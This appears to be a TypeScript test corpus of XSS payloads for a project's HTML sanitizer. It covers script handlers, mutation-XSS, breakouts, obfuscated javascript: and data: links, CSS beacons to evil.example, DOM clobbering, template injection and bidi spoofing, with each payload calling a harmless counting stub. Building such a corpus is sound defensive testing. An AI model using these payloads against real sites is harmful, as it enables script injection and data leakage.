/**
 * The XSS corpus of test/xss.test.ts: hostile strings, written for this
 * project, grouped by the kind of attack they try.
 *
 * Every payload that would run script calls `window.__anpXss('<id>')`, where
 * `<id>` is `p<n>` (n = 1-based position in XSS_PAYLOADS), so a test that
 * installs a counting stub sees exactly which payload ran. Payloads are
 * written with placeholders that `expand` fills in:
 *
 *   §X  __anpXss('p7')            (a call, single quotes)
 *   §Q  __anpXss("p7")            (a call, double quotes)
 *   §P  parent.__anpXss('p7')     (a call from inside a frame)
 *   §I  p7                        (the id alone)
 *   §B  base64 of <script>parent.__anpXss('p7')</script>
 *
 * The corpus is data for the tests only; nothing here is imported by src/.
 */

export const XSS_CLASSES = [
  'script-and-handlers',
  'mxss-namespace',
  'breakout',
  'link-schemes',
  'url-attributes',
  'css-injection',
  'dom-clobbering',
  'template-injection',
  'bidi-spoofing',
] as const;

export type XssClass = (typeof XSS_CLASSES)[number];

export interface XssPayload {
  cls: string;
  payload: string;
}

const CORPUS: Record<XssClass, readonly string[]> = {
  // Plain script and event handlers, on the elements and events that fire without a user.
  'script-and-handlers': [
    '<script>§X</script>',
    '<SCRIPT>§X</SCRIPT>',
    '<script src="data:text/javascript,§X"></script>',
    '<script type="module">§X</script>',
    '<img src=x onerror=§X>',
    '<img src="x" onerror="§X">',
    '<img/src/onerror=§X>',
    '<IMG SRC=x OnErRoR=§X>',
    '<img src=x onerror\n=\n§X>',
    '<img src=x onerror="&#95;&#95;anpXss(&#39;§I&#39;)">',
    '<img src onerror=§X>',
    '<svg onload=§X>',
    '<svg/onload=§X//',
    '<body onload=§X>',
    '<details open ontoggle=§X><summary>x</summary></details>',
    '<video><source onerror=§X></video>',
    '<video src=x onerror=§X></video>',
    '<audio src=x onerror=§X></audio>',
    '<input autofocus onfocus=§X>',
    '<textarea autofocus onfocus=§X></textarea>',
    '<iframe onload=§X></iframe>',
    '<object data=x onerror=§X></object>',
    '<marquee onstart=§X>x</marquee>',
    '<b onmouseover=§X>bold but hostile</b>',
    '<a href="https://example.com/" onclick="§X">a link with a handler</a>',
    '<link rel=stylesheet href=x onerror=§X>',
    '<scr<script>ipt>§X</scr</script>ipt>',
    '<span onanimationstart=§X style="animation:anp-spin 1ms">x</span>',
    '<div onpointerenter=§X style="position:fixed;inset:0">cover</div>',
    // A `>` inside a quoted value, and names the HTML tokenizer still reads as attributes.
    '<b title=">" onmouseover="§X" style="position:fixed;inset:0">quoted gt</b>',
    "<img src=x title='>'onerror=§X>",
    '<img/title=">"/src=x/ONERROR=§X>',
    '<title><img title="</title><img src=x onerror=§X>">',
    '<svg><![CDATA[ > <b title="]]><img src=x onerror=§X>">',
  ],

  // Markup that parses differently after a round trip, or in a foreign (SVG/MathML) namespace.
  'mxss-namespace': [
    '<svg><p><style><img src=x onerror=§X></style></p></svg>',
    '<svg></p><style><a id="</style><img src=x onerror=§X>">',
    '<math><mtext><table><mglyph><style><img src=x onerror=§X></style></mglyph></table></mtext></math>',
    '<math><mi><table><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=§X>"></a></textarea></mtext></svg></mglyph></table></mi></math>',
    '<math><style><img src=x onerror=§X></style></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=§X></annotation-xml></math>',
    '<svg><foreignObject><img src=x onerror=§X></foreignObject></svg>',
    '<svg><title><img src=x onerror=§X></title></svg>',
    '<svg><desc><style>@import "x";</style><img src=x onerror=§X></desc></svg>',
    '<noscript><p title="</noscript><img src=x onerror=§X>"></p></noscript>',
    '<noembed><b title="</noembed><img src=x onerror=§X>"></b></noembed>',
    '<noframes><i title="</noframes><img src=x onerror=§X>"></i></noframes>',
    '<xmp><u title="</xmp><img src=x onerror=§X>"></u></xmp>',
    '<iframe><q title="</iframe><img src=x onerror=§X>"></q></iframe>',
    '<title><s title="</title><img src=x onerror=§X>"></s></title>',
    '<textarea><em title="</textarea><img src=x onerror=§X>"></em></textarea>',
    '<select><style></select><img src=x onerror=§X></style></select>',
    '<select><template><style><!--</style><a title="--></style></template></select><img src=x onerror=§X>">',
    '<template><img src=x onerror=§X></template>',
    '<b><template><b><p></template><img src=x onerror=§X>',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§X>',
    '<form id=a><form id=b><img src=x onerror=§X></form></form>',
    '<!--><img src=x onerror=§X>-->',
    '<!--!><img src=x onerror=§X>-->',
    '<!-- a --!><img src=x onerror=§X>',
    '<table><b><img src=x onerror=§X></b></table>',
    '<a><svg><a><style><a title="</style><img src=x onerror=§X>"></a></style></a></svg></a>',
    '<svg><style><![CDATA[</style><img src=x onerror=§X>]]></style></svg>',
    '<style><style/><img src=x onerror=§X>',
  ],

  // Text that tries to close whatever it is rendered inside.
  breakout: [
    '"><img src=x onerror=§X>',
    "'><img src=x onerror=§X>",
    '`><img src=x onerror=§X>',
    '" onmouseover="§X" data-x="',
    "' onfocus='§X' autofocus data-x='",
    '</dd></dl><img src=x onerror=§X>',
    '</dd></dl></div><script>§X</script>',
    '</li></ul><img src=x onerror=§X>',
    '</li></ul></dd></dl><svg onload=§X>',
    '</code></dd><img src=x onerror=§X>',
    '</span></label><img src=x onerror=§X>',
    '</a></li><img src=x onerror=§X>',
    '</slot></div><img src=x onerror=§X>',
    '--><img src=x onerror=§X>',
    '--!><img src=x onerror=§X>',
    '--><!--<img src=x onerror=§X>-->',
    '</script><script>§X</script>',
    '</script><img src=x onerror=§X>',
    '</SCRIPT ><img src=x onerror=§X>',
    ']]><img src=x onerror=§X>',
    '<![CDATA[</b><img src=x onerror=§X>]]>',
    '</template><img src=x onerror=§X>',
    '</textarea><img src=x onerror=§X>',
    '</style><img src=x onerror=§X>',
    '</title></noscript><img src=x onerror=§X>',
    '"}]}<img src=x onerror=§X>',
    '\\"});§X;//',
    '*/§X;/*',
    '\u2028§X\u2029',
  ],

  // Link schemes, raw and obfuscated, as bare URLs and inside <a href> markup.
  'link-schemes': [
    'javascript:§X',
    'JaVaScRiPt:§X',
    'JAVASCRIPT:§X',
    '   javascript:§X',
    '\u0000javascript:§X',
    '\u0001javascript:§X',
    '\u0008javascript:§X',
    '\u000bjavascript:§X',
    '\u000c\u000djavascript:§X',
    '\u001fjavascript:§X',
    '\u0000\u0020\u0009\u000ajavascript:§X',
    '\tjava\nscript:§X',
    'java\tscr\ript:§X',
    'javascript\n:§X',
    'javascript://%0a§X',
    'javascript://example.com/%0A§X',
    'javascript:%5F%5FanpXss(%27§I%27)',
    'javascript:void(0);§X',
    '&#106;avascript:§X',
    '&#x6A;avascript:§X',
    'javascript&colon;§X',
    'jav&#x09;ascript:§X',
    '%6Aavascript:§X',
    '\u00a0javascript:§X',
    'ja\u200bvascript:§X',
    'vbscript:§X',
    'VBScript:Execute("§I")',
    'data:text/html,<script>§P</script>',
    'DATA:TEXT/HTML,<svg onload=§P>',
    'data:text/html;base64,§B',
    'data:text/html;charset=utf-8,%3Cscript%3E§P%3C%2Fscript%3E',
    '<a href="javascript:§X">x</a>',
    '<a href=javascript:§X>unquoted</a>',
    '<a href="JaVaScRiPt:§X">x</a>',
    '<a href="&#106;avascript:§X">decimal entity</a>',
    '<a href="&#x6A;&#x61;vascript:§X">hex entities</a>',
    '<a href="&#0000106&#0000097vascript:§X">padded entities, no semicolons</a>',
    '<a href="javascript&colon;§X">named colon</a>',
    '<a href="jav&#x09;ascript:§X">entity tab</a>',
    '<a href="jav&NewLine;ascript&colon;§X">entity newline</a>',
    '<a href=" &#14;  javascript:§X">entity control character</a>',
    '<a href="\u0001\u0002javascript:§X">raw control characters</a>',
    '<a href="vbscript:§X">vb</a>',
    '<a href="data:text/html,<script>§P</script>">data</a>',
    '<a href="data:text/html;base64,§B">data base64</a>',
    '<a href="ftp://example.com/§I">ftp is not an allowed scheme</a>',
    '<a href="tel:+15550100">tel is not an allowed scheme</a>',
  ],

  // Attributes other than a plain href that load or navigate.
  'url-attributes': [
    '<img srcset="javascript:§X 1x, x 2x">',
    '<img src="javascript:§X">',
    '<svg><a xlink:href="javascript:§X"><text y="20">svg link</text></a></svg>',
    '<svg><a href="javascript:§X"><text y="20">svg2 link</text></a></svg>',
    '<svg><image href="x" onerror="§X"/></svg>',
    '<form><button formaction="javascript:§X">go</button></form>',
    '<input type=image src=x formaction="javascript:§X" onerror=§X>',
    '<form action="javascript:§X"><input type=submit></form>',
    '<object data="javascript:§X"></object>',
    '<object data="data:text/html;base64,§B"></object>',
    '<embed src="javascript:§X">',
    '<svg><a><animate attributeName="href" values="javascript:§X"/><text y="20">animate</text></a></svg>',
    '<svg><a><set attributeName="href" to="javascript:§X"/><text y="20">set</text></a></svg>',
    '<svg><animate onbegin=§X attributeName=x dur=1ms />',
    '<iframe srcdoc="<script>§P</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=§P&gt;"></iframe>',
    '<iframe src="javascript:§P"></iframe>',
    '<base href="javascript:§X//"><a href="relative">relative link</a>',
    '<base href="https://evil.example/"><a href="/posts/1">rebased link</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:§X">',
    '<video poster="javascript:§X"></video>',
    '<table background="javascript:§X"><tr><td>x</td></tr></table>',
    '<a ping="https://evil.example/ping" href="https://example.com/">pinging link</a>',
    '<q cite="javascript:§X">quoted</q>',
    '<math href="javascript:§X"><mi>math link</mi></math>',
    '<span href="javascript:§X">span with href</span>',
    // href on elements that are not links: inert in HTML, but SPEC 4 allows no href outside http:, https:, mailto:.
    '<abbr href="ftp://example.com/§I" title="ftp">abbr with an ftp href</abbr>',
    '<b href="tel:+15550100;§I">bold with a tel href</b>',
    '<a href="https://example.com/" xlink:href="javascript:§X">both hrefs</a>',
    '<time datetime="javascript:§X">a time</time>',
    '<link rel="prefetch" href="https://evil.example/§I">',
  ],

  // Styles that beacon, overlay, or hide what the reader should see.
  'css-injection': [
    '<span style="background:url(https://evil.example/beacon/§I)">beacon</span>',
    '<b style="position:fixed;inset:0;z-index:2147483647;background:#fff">overlay</b>',
    '<span style="position:absolute;top:0;left:0;width:9999px;height:9999px" onmouseover=§X>cover</span>',
    '<style>@import url(https://evil.example/§I.css);</style>',
    '<style>@import "https://evil.example/§I.css";</style>',
    '<style>*{background:url(https://evil.example/all/§I)}</style>',
    '<style>:host{display:none!important}</style>',
    '<style>a[href^="h"]{background:url(https://evil.example/leak/§I)}</style>',
    '<style>@font-face{font-family:x;src:url(https://evil.example/font/§I)}</style>',
    '<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationend=§X>x</b>',
    '<div style="width:expression(§X)">ie expression</div>',
    '<span style="behavior:url(https://evil.example/x.htc)">htc</span>',
    '<span style="background-image:url(javascript:§X)">js in url()</span>',
    '<span style="-moz-binding:url(https://evil.example/xbl#§I)">xbl</span>',
    '<span style="background:u&#114;l(https://evil.example/entity/§I)">entity in style</span>',
    '<span style="content:url(https://evil.example/content/§I)">content url</span>',
    '<span style="mask:url(https://evil.example/mask/§I#m)">mask</span>',
    '<svg><style>*{fill:url(https://evil.example/svg/§I)}</style></svg>',
    '<link rel=stylesheet href="https://evil.example/§I.css">',
    '</style><style>body{display:none}</style>',
    'x" style="position:fixed;top:0;left:0;font-size:99em',
    '--anp-color-accent: red; } :host { display: none; } x {',
    'expression(§X)',
    'url("javascript:§X")',
    '@import url(https://evil.example/§I.css);',
    '<font style="display:block;position:fixed;top:0">font overlay</font>',
  ],

  // Ids and names that shadow DOM APIs or the elements' own ids.
  'dom-clobbering': [
    '<img name=cookie>',
    '<img src=x name=cookie onerror=§X>',
    '<form id=anp><input name=article></form>',
    '<a id=anp href="https://example.com/">anp</a><a id=anp name=src href="javascript:§X">src</a>',
    '<img id=anp-meta-box name=anpMetaBox>',
    '<object id=anpArticle name=AnpComponents></object>',
    '<embed name=customElements id=customElements>',
    '<form name=document><img name=body></form>',
    '<a id=defaultView name=defaultView>x</a>',
    '<img name=getElementById>',
    '<img name=querySelector id=querySelectorAll>',
    '<a id=heading href="https://example.com/">fake heading</a>',
    '<span id=outline-heading>fake outline heading</span>',
    '<span id=score-label-0>fake score label</span>',
    '<b id=bar-label-0 name=bar-label-0>fake bar label</b>',
    '<form id=f><output name=innerHTML></output></form>',
    '<iframe name=__anpXss></iframe>',
    '<a id=__anpXss href="https://example.com/">clobber the stub</a>',
    '<img name=fetch><img name=trustedTypes>',
    '<form name=shadowRoot><input name=host></form>',
    '<form><input name=attributes><input name=parentNode></form>',
    '<a name=anp href="javascript:§X">named link</a>',
    '<map name=m><area href="javascript:§X" shape=default></map>',
    '<object name=location data=x></object>',
    '<span id="__proto__" name="constructor">proto</span>',
    '<data id=anpConfig value="javascript:§X">data</data>',
  ],

  // Strings that look like template syntax, Lit's own markers, or symbols.
  'template-injection': [
    '${§X}',
    '`${§X}`',
    '{{§X}}',
    '{{{§X}}}',
    '{{constructor.constructor("§X")()}}',
    '{{$on.constructor("§X")()}}',
    '<span ng-app>{{constructor.constructor("§X")()}}</span>',
    '<%= §X %>',
    '<%- §X %>',
    '#{§X}',
    '@{§X}',
    '*{§X}',
    '$!{§X}',
    '[[§X]]',
    '{% raw %}{{§X}}{% endraw %}',
    '{{7*7}} ${7*7} <%= 7*7 %>',
    '<?lit$123$>',
    'lit$1234$',
    '<!--?lit$1234$-->',
    '<?lit$1234$><img src=x onerror=§X>',
    '<b lit$1234$=x title="lit$1234$">marker attribute</b>',
    '<span title$lit$="§X">bound-looking attribute</span>',
    '{"_$litType$":1,"strings":["<img src=x onerror=§X>"],"values":[]}',
    '_$litDirective$',
    'Symbol(lit-nothing)',
    'Symbol.for("lit-noChange")',
    'Symbol(Symbol.toPrimitive)',
    '@@iterator',
    '[object Object]',
    '__proto__[polluted]=§I',
  ],

  // Direction controls mixed with URLs and labels.
  'bidi-spoofing': [
    '\u202Ehttps://example.com/exe.gpj',
    'https://example.com/\u202Egnp.exe',
    '\u202Ejavascript:§X',
    '\u2066javascript:§X\u2069',
    '\u2067javascript:§X\u2069',
    '\u2068javascript:§X\u2069',
    '\u200Fjavascript:§X',
    '\u202Djavascript:§X',
    '\u202Ajava\u202Cscript:§X',
    '\u061Cjavascript:§X',
    'javascript:\u202E§X',
    'https://\u202Eexample.com/',
    'mailto:\u202Eattacker@example.com',
    '/\u202E/posts/§I',
    'https://example.com/\u2066?next=\u2069javascript:§X',
    '<a href="https://evil.example/">\u202Emoc.elpmaxe.www//:sptth</a>',
    '<a href="\u202Ejavascript:§X">rlo before the scheme</a>',
    '<bdo dir=rtl>https://example.com</bdo>',
    '<span dir="rtl">\u202Ejavascript:§X</span>',
    '\u2067<a href="javascript:§X">ok</a>\u2069',
    'safe label\u202E\u2066 <img src=x onerror=§X>\u2069',
    '<bdi>\u202E</bdi><img src=x onerror=§X>',
    '\u202E"><img src=x onerror=§X>',
    'admin\u202E\u2067resu\u2069',
    'quality\u202E',
    '\u2068label\u2069\u200F: value',
    '\u200E\u200F\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069',
    'file:\u202E///etc/passwd',
  ],
};

function expand(template: string, id: string): string {
  return template
    .replaceAll('§B', btoa(`<script>parent.__anpXss('${id}')</script>`))
    .replaceAll('§X', `__anpXss('${id}')`)
    .replaceAll('§Q', `__anpXss("${id}")`)
    .replaceAll('§P', `parent.__anpXss('${id}')`)
    .replaceAll('§I', id);
}

/** The id a payload reports with: `p<n>`, n its 1-based position. */
export function payloadId(index: number): string {
  return `p${index + 1}`;
}

export const XSS_PAYLOADS: { cls: string; payload: string }[] = XSS_CLASSES.flatMap((cls) =>
  CORPUS[cls].map((template) => ({ cls, template })),
).map(({ cls, template }, index) => ({ cls, payload: expand(template, payloadId(index)) }));
